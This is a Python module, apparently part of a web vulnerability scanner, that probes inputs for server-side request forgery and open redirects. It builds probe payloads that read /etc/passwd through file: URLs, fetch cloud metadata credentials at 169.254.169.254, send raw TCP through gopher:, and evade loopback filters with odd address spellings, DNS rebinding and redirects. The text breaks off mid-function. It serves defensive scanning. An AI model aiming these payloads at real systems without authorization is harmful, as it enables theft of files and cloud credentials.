"""SSRF and open redirect (category ssrf).

For every URL- or host-carrying input the check asks, in two stages:

1. Does the server fetch an attacker URL at all? (an OOB callback carrying the payload's token,
   a DNS lookup of our name, or our canary body reflected in the response). Inputs without a spec
   (guessed query parameters, common headers) are probed many per request, each with its own token.
2. For inputs that fetch: how deep does the validation go? Loopback literals and their odd
   spellings, a name whose DNS answer is internal (what a poisoned cache does), a name that
   rebinds between lookups, a redirect from an allowed host to an internal one, the target's own
   origin through 127.0.0.1 (compared with what we see directly), cloud metadata, and schemes
   other than http(s).

Internal reach is proven, never guessed: by an interaction on the OOB server's *inside* listener
(bound on the target's loopback when the target shares this machine), or by internal content
reflected in the response. Where neither is possible the finding says reach was not determined.
"""

from __future__ import annotations

import asyncio
import ipaddress
import re
import socket
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from functools import partial
from urllib.parse import urljoin, urlsplit

from firebrick.context import ScanContext
from firebrick.discovery.params import url_assemblies
from firebrick.inject import send
from firebrick.model import (
    Confidence,
    Evidence,
    Exchange,
    Finding,
    InputKind,
    Interaction,
    Location,
    Operation,
    Outcome,
    Param,
    Severity,
)
from firebrick.safejson import safe_json_loads

CHECK = "ssrf"
CATEGORY = "ssrf"
SAFE_METHODS = {"GET", "HEAD", "OPTIONS"}
SAFE_WRITE_METHODS = {"POST", "PUT"}  # allowed in safe mode only for inputs carrying URLs/hosts

# Headers that servers sometimes fetch or build URLs from (REFERENCE.md).
PROBE_HEADERS = ("Referer", "X-Forwarded-Host", "X-Original-URL", "X-Wap-Profile", "Forwarded")
MAX_HEADER_PROBE_OPS = 8


def spellings(address: str) -> list[tuple[str, str]]:
    """Odd spellings of an IPv4 address that URL parsers and resolvers accept (REFERENCE.md).

    For 127.0.0.1: 2130706433, 0x7f000001, 0177.0.0.1, 127.1, 127.000.000.001,
    [::ffff:127.0.0.1], 0x7f.1, 0177.1, 127.0.1, [::ffff:7f00:1], [0:0:0:0:0:ffff:7f00:1], and
    the loopback-only 0.0.0.0, 0, localhost, [::] and [::1] (see ``IPV6_LOOPBACK``).
    """
    ip = ipaddress.ip_address(address)
    if ip.version != 4:
        return []
    a, b, c, d = (int(x) for x in address.split("."))
    low24 = (b << 16) + (c << 8) + d
    mapped = f"{(a << 8) + b:x}:{(c << 8) + d:x}"
    out = [
        (str(int(ip)), "decimal integer"),
        (hex(int(ip)), "hex integer"),
        (f"0{a:o}.{b}.{c}.{d}", "octal first octet"),
        (f"{a}.{b}.{c * 256 + d}" if b else f"{a}.{(c << 8) + d}", "short form"),
        # Pad only octets below 8: a padded 10 would read as octal 010 = 8, another address.
        (".".join(f"{o:03d}" if o < 8 else str(o) for o in (a, b, c, d)), "zero-padded"),
        (f"[::ffff:{address}]", "IPv4-mapped IPv6"),
        (f"{hex(a)}.{low24}", "hex first part, short form"),
        (f"0{a:o}.{low24}", "octal first part, short form"),
        (f"[::ffff:{mapped}]", "IPv4-mapped IPv6 in hex"),
        (f"[0:0:0:0:0:ffff:{mapped}]", "IPv4-mapped IPv6, uncompressed"),
    ]
    out.append((f"{a}.{b}.{(c << 8) + d}", "three-part form"))
    if ip.is_loopback:
        out += [
            ("0.0.0.0", "unspecified address (Linux connects it to loopback)"),
            ("0", "the number 0 (0.0.0.0, connects to loopback)"),
            ("localhost", "the name localhost"),
        ]
    seen = {address}  # one probe per distinct spelling; never the plain address itself
    unique = []
    for host, what in out:
        if host not in seen:
            seen.add(host)
            unique.append((host, what))
    return unique


# IPv6 spellings of loopback: they land on an IPv6 listener (the inside listener's ::1 twin).
IPV6_LOOPBACK = [
    ("[::1]", "IPv6 loopback"),
    ("[::]", "IPv6 unspecified address (Linux connects it to ::1)"),
]


METADATA_IP = "169.254.169.254"
METADATA_URL = f"http://{METADATA_IP}/latest/meta-data/"
METADATA_MARKERS = re.compile(
    r"(ami-id|instance-id|security-credentials|iam/|computeMetadata|local-ipv4|AccessKeyId)"
)
PASSWD_MARKER = re.compile(r"root:[^:\n]*:0:0:")
# Probe group -> (severity, title, why, evidence summary) of the ssrf.scheme finding it proves.
SCHEME_FINDINGS = {
    "scheme-file": (
        Severity.CRITICAL,
        "SSRF reads local files through the file: scheme",
        "accepts file: URLs and returns the file: /etc/passwd came back in the response.",
        "file:///etc/passwd content reflected",
    ),
    "scheme-gopher": (
        Severity.HIGH,
        "SSRF speaks raw TCP through the gopher: scheme",
        "accepts gopher: URLs, which let an attacker write arbitrary bytes to internal services "
        "(Redis, SMTP, memcached).",
        "gopher payload reached the inside listener",
    ),
}
# Listeners standing where only internal requests land: the target's loopback (both families)
# and the --launch sandbox's metadata canary.
INSIDE_LISTENERS = ("inside", "inside6", "metadata")
INTERNAL_GROUPS = (
    "loopback",
    "odd-spelling",
    "dns-internal",
    "rebinding",
    "redirect",
    "self",
    "metadata",
)


@dataclass
class Target:
    """One input under test: a single parameter or a URL the server assembles from parts."""

    op: Operation
    label: str  # how the finding names the input
    param: Param | None = None
    parts: dict[str, Param] | None = (
        None  # role -> Param for assembled URLs (host/port/path/scheme)
    )

    @property
    def host_only(self) -> bool:
        return self.param is not None and InputKind.URL not in self.param.kinds

    def values(self, url: str) -> dict[str, object]:
        """Place a URL payload into this input's request values."""
        if self.param is not None:
            if self.host_only:
                return {self.param.display: urlsplit(url).netloc}
            return {self.param.display: url}
        assert self.parts is not None
        split = urlsplit(url)
        out: dict[str, object] = {}
        host = split.netloc.rsplit("@", 1)[-1]
        if "port" in self.parts and split.port is not None:
            host = host[: host.rfind(":")] if not host.endswith("]") else host
            out[self.parts["port"].display] = split.port
        elif "port" in self.parts:
            out[self.parts["port"].display] = 443 if split.scheme == "https" else 80
        out[self.parts["host"].display] = host
        if "path" in self.parts:
            out[self.parts["path"].display] = (split.path or "/") + (
                f"?{split.query}" if split.query else ""
            )
        if "scheme" in self.parts:
            out[self.parts["scheme"].display] = split.scheme
        return out


@dataclass
class Probe:
    group: str  # external | external-dns | loopback | odd-spelling | dns-internal | rebinding | redirect | self | metadata | scheme-file | scheme-https | scheme-gopher
    label: str
    url: str
    token: str | None = None
    snippet: str | None = None  # reflected text that proves an internal read
    pattern: re.Pattern[str] | None = None  # reflected pattern that proves a read
    exchange: Exchange | None = None
    interactions: list[Interaction] = field(default_factory=list)
    reflected: bool = False
    # Differential probes (blind fetcher, no inside listener): the answer looked like a
    # successful fetch (likely) or like neither a fetch nor a failed fetch (refused).
    likely: bool = False
    refused: bool = False
    # What this depth probe tells (safe mode picks rungs by it through write operations):
    # literal | spelling | unspecified | name | rebinding | redirect | metadata | file | diff
    rung: str = ""

    @property
    def http_hit(self) -> bool:
        return any(i.protocol in ("http", "https") for i in self.interactions)

    @property
    def inside_hit(self) -> bool:
        return any(
            i.listener in INSIDE_LISTENERS and i.protocol != "dns" for i in self.interactions
        )

    @property
    def dns_hit(self) -> bool:
        return any(i.protocol == "dns" for i in self.interactions)

    @property
    def reached(self) -> bool:
        """For internal probes: the fetch provably landed inside."""
        return self.inside_hit or self.reflected

    @property
    def text(self) -> str:
        return f"{self.label}: {self.url}"


def _methods_allowed(ctx: ScanContext, op: Operation) -> bool:
    if op.method in SAFE_METHODS or ctx.options.mode == "full":
        return True
    return op.method in SAFE_WRITE_METHODS  # every target here carries a URL/host input


def targets(ctx: ScanContext) -> tuple[list[Target], list[tuple[Operation, list[Param]]]]:
    """Declared inputs tested one by one, and guessed query params bundled per operation."""
    single: list[Target] = []
    bundles: list[tuple[Operation, list[Param]]] = []
    for op in ctx.surface.operations:
        if not _methods_allowed(ctx, op):
            ctx.cover(
                CHECK,
                CATEGORY,
                op,
                None,
                "skipped",
                f"{op.method} is not sent in {ctx.options.mode} mode",
            )
            continue
        assembled: set[str] = set()
        for parts in url_assemblies(op):
            single.append(Target(op, "+".join(p.display for p in parts.values()), parts=parts))
            assembled |= {p.display for p in parts.values()}
        guessed = [p for p in op.params if p.guessed and p.location is Location.QUERY]
        if guessed:
            bundles.append((op, guessed))
        for param in op.params:
            if param.guessed or param.display in assembled:
                continue
            if param.kinds & {InputKind.URL, InputKind.HOST}:
                single.append(Target(op, param.display, param=param))
    return single, bundles


async def run(ctx: ScanContext) -> AsyncIterator[Finding]:
    oob = ctx.oob
    if oob is None:
        ctx.warn(
            "SSRF probes need the OOB server; it is off, so only reflected fetches can be seen"
        )
        return
    single, bundles = targets(ctx)
    # Stage 1 for every input at once (the client enforces rate and concurrency); in safe mode
    # the inputs of one write operation share their requests.
    groups = _bundled_writes(ctx, single)
    grouped = {id(t) for ts in groups.values() for t in ts}
    alone = [t for t in single if id(t) not in grouped]
    by_target: dict[int, list[Probe]] = {}
    for t, pair in zip(alone, await asyncio.gather(*(_stage1(ctx, t) for t in alone)), strict=True):
        by_target[id(t)] = pair
    for ts, bundled in zip(
        groups.values(),
        await asyncio.gather(*(_stage1_bundle(ctx, ts) for ts in groups.values())),
        strict=True,
    ):
        for t, pair in zip(ts, bundled, strict=True):
            by_target[id(t)] = pair
    stage1 = [by_target[id(t)] for t in single]
    found_in_bundles = await asyncio.gather(*(_bundle(ctx, op, params) for op, params in bundles))
    header_targets = await _header_bundles(ctx)
    fetching: list[tuple[Target, list[Probe]]] = []
    quiet: list[tuple[Target, list[Probe]]] = []
    for target, probes in zip(single, stage1, strict=True):
        finding = _open_redirect(ctx, target, probes)
        if finding is not None:
            yield finding
        if any(p.http_hit or p.reflected for p in probes):
            fetching.append((target, probes))
        else:
            quiet.append((target, probes))
    # Background jobs fetch after answering: wait the grace window for their callbacks; the
    # inputs that call back are depth-tested like synchronous ones (their verdicts wait too).
    await _await_callbacks(ctx, [p for _, probes in quiet for p in probes])
    later: list[tuple[Target, list[Probe]]] = []
    guarded: list[tuple[Target, list[Probe]]] = []
    for target, probes in quiet:
        if any(p.http_hit for p in probes):
            later.append((target, probes))
        elif oob.inside_port is not None and _answers_differ(probes):
            # No callback, but our URLs were answered differently (refused vs fetch failed):
            # a guard sits in front of a fetcher. Probe its depth on the inside listener.
            guarded.append((target, probes))
        elif any(p.dns_hit for p in probes):
            dns_finding = _dns_only_verdict(ctx, target, probes)
            if dns_finding is not None:
                yield dns_finding
        else:
            _defer_stage1(ctx, target, probes)
    for found in [*found_in_bundles, header_targets]:
        fetching.extend(found)
    # For later checks (unsafe_consumption): every input seen fetching our URLs, as Targets
    # (target.values(url) places a URL in that input).
    ctx.state["ssrf.fetchers"] = [t for t, _ in fetching]
    self_ref = await _self_reference(ctx) if fetching or later or guarded else None
    # Depth probes of a few targets at a time (as many as requests in flight): 500 fetchers at
    # once would hold 20,000 waiting probes in memory for no gain in speed.
    slots = asyncio.Semaphore(max(8, ctx.client.concurrency))
    results = await asyncio.gather(
        *(_stage2(ctx, t, p, self_ref, slots) for t, p in fetching),
        *(_stage2(ctx, t, p, self_ref, slots, late=True) for t, p in later),
        *(_stage2(ctx, t, p, self_ref, slots, guarded=True) for t, p in guarded),
    )
    for findings in results:
        for finding in findings:
            yield finding


async def _await_callbacks(ctx: ScanContext, probes: list[Probe]) -> None:
    """Wait up to the grace window for HTTP callbacks of ``probes``, then re-read them."""
    assert ctx.oob is not None
    oob = ctx.oob
    waiting = {p.token for p in probes if p.token and not p.http_hit}
    end = asyncio.get_running_loop().time() + ctx.options.oob_grace
    while waiting and (left := end - asyncio.get_running_loop().time()) > 0:
        if not await oob.wait_for(waiting, timeout=left, protocols={"http", "https"}):
            break
        waiting = {t for t in waiting if not any(i.protocol != "dns" for i in oob.interactions(t))}
    for probe in probes:
        _observe(ctx, probe)


def _answers_differ(probes: list[Probe]) -> bool:
    """Our callback URLs got answers of different shapes (e.g. 400 refused vs 502 failed)."""
    shapes = {_shape(p.exchange) for p in probes if p.exchange is not None}
    return len(shapes) > 1 and ("no answer",) not in shapes


def callbacks_unreachable(ctx: ScanContext, probes: list[Probe]) -> bool:
    """True when every stage-1 callback we could offer was an internal address or a name the
    target never resolved: silence then proves nothing about fetching."""
    assert ctx.oob is not None
    try:
        public = ipaddress.ip_address(ctx.oob.advertise_host.strip("[]")).is_global
    except ValueError:
        public = True  # a name: the user says it is reachable
    del probes  # the name answers the same (internal) address: a lookup changes nothing
    return not public


NOT_DETERMINED_FIX = (
    "every callback firebrick could offer from here was an internal address or a name the "
    "target cannot resolve; for full depth run the app under `firebrick scan --launch` or use "
    "a public OOB server (--oob-server)"
)


def _not_determined(ctx: ScanContext, target: Target, reason: str) -> None:
    ctx.cover(CHECK, CATEGORY, target.op, target.label, Outcome.NOT_DETERMINED, reason)


def _dns_only_verdict(ctx: ScanContext, target: Target, probes: list[Probe]) -> Finding | None:
    """A lookup alone: a finding only when the input was not then refused. Resolve-then-refuse
    is what good guards do; it is a coverage note."""
    looked_up = [p for p in probes if p.dns_hit]
    refused = [
        p for p in looked_up if p.exchange is not None and p.exchange.status is not None
        and 400 <= p.exchange.status < 500
    ]  # fmt: skip
    if not refused:
        return _dns_only(target, probes)
    if callbacks_unreachable(ctx, probes):
        _not_determined(
            ctx,
            target,
            "resolved our name (it answers an internal address here), then refused the URL: "
            + NOT_DETERMINED_FIX,
        )
    else:
        ctx.cover(
            CHECK,
            CATEGORY,
            target.op,
            target.label,
            "passed",
            f"resolved our name, then refused the URL (HTTP {refused[0].exchange.status}): "  # type: ignore[union-attr]
            "resolve-then-refuse, no fetch",
        )
    return None


# -- stage 1 ------------------------------------------------------------------------------------
async def _fire(ctx: ScanContext, target: Target, probe: Probe) -> Probe:
    assert ctx.oob is not None
    probe.exchange = await send(
        ctx.client, target.op, target.values(probe.url), check=CHECK, url_filler=_filler(ctx)
    )
    _observe(ctx, probe)
    return probe


def _observe(ctx: ScanContext, probe: Probe) -> None:
    """Read what the probe's exchange and the OOB server say about it."""
    assert ctx.oob is not None
    body = _readable(probe.exchange.body_text if probe.exchange else "")
    if probe.token:
        probe.interactions = ctx.oob.interactions(probe.token)
        if ctx.oob.canary(probe.token) in body:
            probe.reflected = True
    if probe.snippet and probe.snippet in body:
        probe.reflected = True
    if probe.pattern and probe.pattern.search(body):
        probe.reflected = True


def _readable(body: str) -> str:
    """The body plus, for JSON, its string values decoded: fetched content usually comes back
    inside a JSON string, where quotes and newlines are escaped."""
    if not body.lstrip().startswith(("{", "[")):
        return body
    doc = safe_json_loads(body)
    if doc is None:
        return body
    texts: list[str] = []
    stack = [doc]
    while stack:
        node = stack.pop()
        if isinstance(node, str):
            texts.append(node)
        elif isinstance(node, dict):
            stack.extend(node.values())
        elif isinstance(node, list):
            stack.extend(node)
    return "\n".join([body, *texts])


def _filler(ctx: ScanContext) -> Callable[[], str]:
    """URL for URL inputs a probe does not target: ours, never a third party's."""
    assert ctx.oob is not None
    oob = ctx.oob
    return lambda: oob.http_url(oob.new_token("filler"))


async def _stage1(ctx: ScanContext, target: Target) -> list[Probe]:
    probes = _stage1_probes(ctx, target)
    return list(await asyncio.gather(*(_fire(ctx, target, p) for p in probes)))


def _bundled_writes(ctx: ScanContext, single: list[Target]) -> dict[str, list[Target]]:
    """Safe mode: a write operation's URL/host inputs share their stage-1 requests (two requests
    per operation instead of two per input), so that probing an operation that creates objects
    creates as few as it can. Assembled URLs (host+port+path) keep their own requests."""
    if ctx.options.mode == "full":
        return {}
    groups: dict[str, list[Target]] = {}
    for t in single:
        if t.param is not None and t.op.method not in SAFE_METHODS and t.op.graphql is None:
            groups.setdefault(t.op.key, []).append(t)
    return {k: ts for k, ts in groups.items() if len(ts) > 1}


async def _stage1_bundle(ctx: ScanContext, group: list[Target]) -> list[list[Probe]]:
    """Stage 1 for several inputs of one operation: one request with every input's IP-literal
    probe, one with every input's DNS-name probe (and so on for each probe kind); each probe
    keeps its own token."""
    rows = [_stage1_probes(ctx, t) for t in group]
    op = group[0].op
    for column in range(max(len(r) for r in rows)):
        values: dict[str, object] = {}
        for t, row in zip(group, rows, strict=True):
            if column < len(row):
                values.update(t.values(row[column].url))
        exchange = await send(ctx.client, op, values, check=CHECK, url_filler=_filler(ctx))
        for row in rows:
            if column < len(row):
                row[column].exchange = exchange
                _observe(ctx, row[column])
    return rows


def _stage1_probes(ctx: ScanContext, target: Target) -> list[Probe]:
    oob = ctx.oob
    assert oob is not None
    t1, t2 = (
        oob.new_token(f"{target.op.key} {target.label}"),
        oob.new_token(f"{target.op.key} {target.label} dns"),
    )
    if target.host_only:
        # A bare host input cannot carry a path: the token rides in the name (Host header, DNS).
        first = Probe(
            "external", "our host name", f"http://{oob.dns_name(t1)}:{oob.http_port}/{t1}", t1
        )
    else:
        first = Probe("external", "our callback URL (IP literal)", oob.http_url(t1), t1)
    second = Probe(
        "external-dns",
        "our callback URL (DNS name)",
        f"http://{oob.dns_name(t2)}:{oob.http_port}/{t2}",
        t2,
    )
    probes = [first, second]
    # Same machine: our callback is itself loopback, which guards rightly refuse as
    # 127.0.0.1. The same listener on another loopback address passes text-based guards.
    for base in [] if target.host_only else getattr(oob, "alt_callbacks", []):
        t3 = oob.new_token(f"{target.op.key} {target.label} alt")
        host = urlsplit(base).netloc
        probes.append(
            Probe("external", f"our callback on another address ({host})", f"{base}/{t3}", t3)
        )
    return probes


async def _bundle(
    ctx: ScanContext, op: Operation, params: list[Param]
) -> list[tuple[Target, list[Probe]]]:
    """Guessed query params: all in one request, each with its own token."""
    oob = ctx.oob
    assert oob is not None
    probes = {
        p.display: Probe(
            "external", "our callback URL (IP literal)", "", oob.new_token(f"{op.key} {p.display}")
        )
        for p in params
    }
    for probe in probes.values():
        probe.url = oob.http_url(probe.token or "")
    exchange = await send(
        ctx.client, op, {d: p.url for d, p in probes.items()}, check=CHECK, url_filler=_filler(ctx)
    )
    found = []
    for param in params:
        probe = probes[param.display]
        probe.exchange = exchange
        _observe(ctx, probe)
        if probe.http_hit or probe.reflected:
            param.guessed = False  # it exists: the server used it
            param.kinds.add(InputKind.URL)
            found.append((Target(op, param.display, param=param), [probe]))
    tokens = {p.token for p in probes.values() if p.token and not (p.http_hit or p.reflected)}
    label = f"{len(params)} guessed query parameters"
    if found:
        ctx.cover(CHECK, CATEGORY, op, label, "failed", "one request, one token per parameter")
    else:  # passed only if the bundle reached the code (not refused by auth, CSRF, 404, ...)
        ctx.passed_if_reached(
            CHECK, CATEGORY, op, label, exchange, None, "one request, one token per parameter"
        )
    ctx.defer(tokens, partial(_late, op, probes))
    return found


async def _header_bundles(ctx: ScanContext) -> list[tuple[Target, list[Probe]]]:
    """Common headers that servers fetch or build URLs from, one request per operation."""
    oob = ctx.oob
    assert oob is not None
    ops = [op for op in ctx.surface.operations if op.method == "GET" and op.graphql is None][
        :MAX_HEADER_PROBE_OPS
    ]
    found: list[tuple[Target, list[Probe]]] = []

    async def one(op: Operation) -> None:
        probes: dict[str, Probe] = {}
        for name in PROBE_HEADERS:
            token = oob.new_token(f"{op.key} header:{name}")
            if name == "X-Forwarded-Host":
                url = f"{oob.dns_name(token)}:{oob.http_port}"
            elif name == "Forwarded":
                url = f"for=192.0.2.1;host={oob.dns_name(token)}:{oob.http_port}"
            else:
                url = oob.http_url(token)
            probes[name] = Probe("external", f"header {name}", url, token)
        exchange = await send(
            ctx.client,
            op,
            {},
            check=CHECK,
            url_filler=_filler(ctx),
            extra_headers={n: p.url for n, p in probes.items()},
        )
        for name, probe in probes.items():
            probe.exchange = exchange
            _observe(ctx, probe)
            if probe.http_hit or probe.reflected:
                host_header = name in ("X-Forwarded-Host", "Forwarded")
                param = Param(
                    name, Location.HEADER, kinds={InputKind.HOST if host_header else InputKind.URL}
                )
                found.append((Target(op, param.display, param=param), [probe]))
        ctx.defer(
            {p.token for p in probes.values() if p.token},
            partial(_late, op, probes),
        )

    await asyncio.gather(*(one(op) for op in ops))
    return found


def _late(
    op: Operation, probes: dict[str, Probe], seen: dict[str, list[Interaction]]
) -> list[Finding]:
    """A bundled payload fetched after the check moved on (an asynchronous job)."""
    findings = []
    for display, probe in probes.items():
        hits = seen.get(probe.token or "", [])
        if probe.http_hit or probe.reflected or not hits:
            continue
        probe.interactions = hits
        target = Target(op, display if ":" in display else f"header:{display}")
        findings.append(_late_finding(target, probe))
    return findings


def _defer_stage1(ctx: ScanContext, target: Target, probes: list[Probe]) -> None:
    def verdict(seen: dict[str, list[Interaction]]) -> list[Finding]:
        for probe in probes:
            probe.interactions = seen.get(probe.token or "", [])
        if any(p.http_hit for p in probes):
            return [_late_finding(target, next(p for p in probes if p.http_hit))]
        if any(p.dns_hit for p in probes):
            found = _dns_only_verdict(ctx, target, probes)
            return [found] if found is not None else []
        if callbacks_unreachable(ctx, probes):
            _not_determined(ctx, target, "no fetch of our URL observed, but " + NOT_DETERMINED_FIX)
            return []
        # Passed only if our URLs reached the code (not turned away for auth, CSRF, a bad body).
        ctx.passed_if_reached(
            CHECK,
            CATEGORY,
            target.op,
            target.label,
            [p.exchange for p in probes if p.exchange is not None],
            reason="no fetch of our public callback URL observed",
        )
        return []

    ctx.defer({p.token for p in probes if p.token}, verdict)


def _late_finding(target: Target, probe: Probe) -> Finding:
    return Finding(
        kind="ssrf.external-fetch",
        category=CATEGORY,
        title="Server fetches attacker-supplied URLs (asynchronously)",
        severity=Severity.MEDIUM,
        confidence=Confidence.CONFIRMED,
        operation=target.op.key,
        input=target.label,
        description=(
            f"The server called our URL given in {target.label} after answering the request "
            "(a background job). Internal reach was not probed for this input: the fetch happens "
            "too late for the depth probes to be attributed."
        ),
        evidence=Evidence(
            summary=f"OOB callback for token {probe.token} after the response",
            exchanges=[probe.exchange] if probe.exchange else [],
            interactions=probe.interactions,
            payloads_worked=[probe.text],
        ),
    )


def _dns_only(target: Target, probes: list[Probe]) -> Finding:
    dns = [i for p in probes for i in p.interactions if i.protocol == "dns"]
    return Finding(
        kind="ssrf.dns-lookup-only",
        category=CATEGORY,
        title="Server resolves attacker-supplied host names (no connection seen)",
        severity=Severity.LOW,
        confidence=Confidence.POSSIBLE,
        operation=target.op.key,
        input=target.label,
        description=(
            f"A name we put in {target.label} was looked up by the target's resolver, but no HTTP "
            "request reached us. Egress filtering may be stopping the fetch, or the server only "
            "logs or previews names. A lookup alone proves little; the name still reached DNS."
        ),
        evidence=Evidence(
            summary=f"{len(dns)} DNS queries for our name, no HTTP callback",
            exchanges=[p.exchange for p in probes if p.exchange][:2],
            interactions=dns[:10],
            payloads_worked=[p.text for p in probes if p.dns_hit],
            payloads_failed=[p.text for p in probes if not p.dns_hit],
        ),
    )


# -- open redirect --------------------------------------------------------------------------------
def _open_redirect(ctx: ScanContext, target: Target, probes: list[Probe]) -> Finding | None:
    """A response that sends the user to our URL: Location header or meta refresh."""
    for probe in probes:
        ex = probe.exchange
        if ex is None or ex.status is None:
            continue
        location = ex.response_headers.get("location", "")
        meta = re.search(
            r"<meta[^>]+http-equiv=[\"']?refresh[^>]+url=([^\"'>]+)", ex.body_text[:20000], re.I
        )
        dest = location or (meta.group(1) if meta else "")
        if not dest or probe.token is None:
            continue
        absolute = urljoin(ex.url, dest)
        # The redirect must go to OUR host: a redirect to a fixed host that merely carries our
        # URL in its query (a login page's ?next=) is no open redirect.
        if probe.token in absolute and _same_host(absolute, probe.url):
            how = f"{ex.status} Location: {location}" if location else f"meta refresh to {dest}"
            return Finding(
                kind="open-redirect",
                category=CATEGORY,
                title="Open redirect: the server redirects to any URL it is given",
                severity=Severity.MEDIUM,
                confidence=Confidence.CONFIRMED,
                operation=target.op.key,
                input=target.label,
                description=(
                    f"{target.label} is used as a redirect target without validation ({how}). "
                    "Attackers use it for phishing from your domain, to steal OAuth codes and tokens "
                    "through redirect_uri, and to bounce SSRF past allowlists that trust your host."
                ),
                evidence=Evidence(summary=how, exchanges=[ex], payloads_worked=[probe.text]),
            )
    return None


def _same_host(url: str, payload: str) -> bool:
    try:
        return (urlsplit(url).hostname or "") == (urlsplit(payload).hostname or "-")
    except ValueError:
        return False


# -- stage 2 ------------------------------------------------------------------------------------
@dataclass
class SelfReference:
    """A page of the target as the scanner sees it, to recognise it when fetched via loopback."""

    path: str
    snippet: str
    port: int


async def _self_reference(ctx: ScanContext) -> SelfReference | None:
    split = urlsplit(ctx.client.base_url)
    port = split.port or (443 if split.scheme == "https" else 80)
    candidates = []
    if ctx.surface.spec_url and ctx.surface.spec_url.startswith(("http://", "https://")):
        candidates.append(urlsplit(ctx.surface.spec_url).path)
    candidates += [
        op.path
        for op in ctx.surface.operations
        if op.method == "GET" and not any(p.required for p in op.params) and "{" not in op.path
    ][:2]
    candidates.append(split.path or "/")
    for path in dict.fromkeys(candidates):
        ex = await ctx.client.request("GET", path, check=CHECK, follow_redirects=False)
        body = ex.body_text
        # A plain run of text: it must survive being re-encoded (HTML-escaped, JSON-quoted).
        # Words, not a token: a CSRF token or session id is in every page of the session, so
        # it would "come back" from any fetch (Django forms carry a 32+ character token).
        runs = [r for r in re.findall(r"[A-Za-z0-9 ,.:;_/-]{32,}", body) if " " in r.strip()]
        if ex.status == 200 and runs:
            run = max(runs, key=len)
            return SelfReference(path, run[:48], port)
    return None


def _depth_probes(
    ctx: ScanContext, target: Target, self_ref: SelfReference | None, reflects: bool
) -> list[Probe]:
    oob = ctx.oob
    assert oob is not None
    probes: list[Probe] = []

    def tok(what: str) -> str:
        return oob.new_token(f"{target.op.key} {target.label} {what}")

    # The inside listener stands on an address the target treats as internal: its loopback when
    # it shares our machine, or e.g. our private address on a network it shares with us.
    inside = oob.inside_port is not None
    inside_host = oob.config.inside_host or "127.0.0.1"
    if not target.host_only:
        if inside:
            t = tok("loopback")
            probes.append(
                Probe(
                    "loopback",
                    f"internal literal {inside_host}",
                    oob.inside_url(t, host=inside_host),
                    t,
                    rung="literal",
                )
            )
            for host, what in spellings(inside_host):
                t = tok(host)
                rung = (
                    "spelling"
                    if what == "decimal integer"
                    else "unspecified"
                    if host == "0.0.0.0"
                    else ""
                )
                probes.append(
                    Probe(
                        "odd-spelling",
                        f"{host} ({what})",
                        oob.inside_url(t, host=host),
                        t,
                        rung=rung,
                    )
                )
            port6 = getattr(oob, "attached", {}).get("inside6")
            if port6 is not None and ipaddress.ip_address(inside_host).is_loopback:
                for host, what in IPV6_LOOPBACK:
                    t = tok(host)
                    probes.append(
                        Probe("odd-spelling", f"{host} ({what})", f"http://{host}:{port6}/{t}", t)
                    )
        if self_ref is not None and reflects:
            probes.append(
                Probe(
                    "self",
                    "the target's own origin via 127.0.0.1",
                    f"http://127.0.0.1:{self_ref.port}{self_ref.path}",
                    snippet=self_ref.snippet,
                    rung="literal",
                )
            )
            probes.append(
                Probe(
                    "odd-spelling",
                    "the target's own origin via 2130706433",
                    f"http://2130706433:{self_ref.port}{self_ref.path}",
                    snippet=self_ref.snippet,
                    rung="spelling",
                )
            )
        # Metadata: proven by its content coming back, or (in the --launch sandbox) by the
        # metadata canary seeing the token, which also works for blind fetchers.
        canary = "metadata" in getattr(oob, "attached", {})
        if reflects or canary:
            t = tok("metadata")
            probes.append(
                Probe(
                    "metadata",
                    "cloud metadata 169.254.169.254",
                    f"{METADATA_URL}?id={t}",
                    t,
                    pattern=METADATA_MARKERS,
                    rung="metadata",
                )
            )
            for host, what in spellings(METADATA_IP):
                t = tok(f"metadata {host}")
                probes.append(
                    Probe(
                        "odd-spelling",
                        f"metadata as {host} ({what})",
                        f"http://{host}/latest/meta-data/?id={t}",
                        t,
                        pattern=METADATA_MARKERS,
                    )
                )
            # The same read through a name that resolves to the metadata address (a poisoned or
            # attacker-owned name): proves internal reach by content where no inside listener is.
            t = tok("dns-metadata")
            name = oob.name_answering(t, METADATA_IP)
            probes.append(
                Probe(
                    "dns-internal",
                    "a name whose DNS answer is 169.254.169.254 (cloud metadata)",
                    f"http://{name}/latest/meta-data/?id={t}",
                    t,
                    pattern=METADATA_MARKERS,
                    rung="name-metadata",
                )
            )
        if reflects:
            probes.append(
                Probe(
                    "scheme-file",
                    "file: scheme",
                    "file:///etc/passwd",
                    pattern=PASSWD_MARKER,
                    rung="file",
                )
            )
        t = tok("https")
        if oob.https_port:
            probes.append(
                Probe("scheme-https", "https: to our listener (self-signed)", oob.https_url(t), t)
            )
        if ctx.options.mode == "full" and inside:
            t = tok("gopher")
            probes.append(
                Probe(
                    "scheme-gopher",
                    "gopher: scheme",
                    f"gopher://{inside_host}:{oob.inside_port}/_GET%20/{t}%20HTTP/1.0%0d%0a%0d%0a",
                    t,
                )
            )
    # Where an internal fetch lands and how we recognise it: our inside listener (the token in
    # the path), or, for endpoints that reflect, the target's own page (its snippet).
    landing: tuple[str, int, Callable[[str], str], str | None] | None = None
    if inside:
        assert oob.inside_port is not None
        landing = (inside_host, oob.inside_port, lambda t: f"/{t}", None)
    elif self_ref is not None and reflects:
        ref = self_ref
        landing = ("127.0.0.1", ref.port, lambda _t: ref.path, ref.snippet)
    if landing is None:
        if not target.host_only and not reflects:
            probes += _differential_probes(ctx, self_ref, tok)
        return probes
    address, port, path_for, snippet = landing
    # Names: the token rides in the name, so these work for host-only inputs too.
    t = tok("dns-internal")
    probes.append(
        Probe(
            "dns-internal",
            f"a name whose DNS answer is {address} (a poisoned or internal name)",
            f"http://{oob.name_answering(t, address)}:{port}{path_for(t)}",
            t,
            snippet=snippet,
            rung="name",
        )
    )
    t = tok("rebinding")
    probes.append(
        Probe(
            "rebinding",
            f"a name that answers public first, then {address} (DNS rebinding)",
            f"http://{oob.rebinding_name(t, address)}:{port}{path_for(t)}",
            t,
            snippet=snippet,
            rung="rebinding",
        )
    )
    if not target.host_only:
        t, t_in = tok("redirect"), tok("redirect-landing")
        oob.set_redirect(t, f"http://{address}:{port}{path_for(t_in)}")
        # The token we watch is the landing one: the hop to the inside is what proves the bypass.
        probes.append(
            Probe(
                "redirect",
                f"our public URL redirecting to {address}",
                oob.http_url(t),
                t_in,
                snippet=snippet,
                rung="redirect",
            )
        )
    return probes


def _differential_probes(
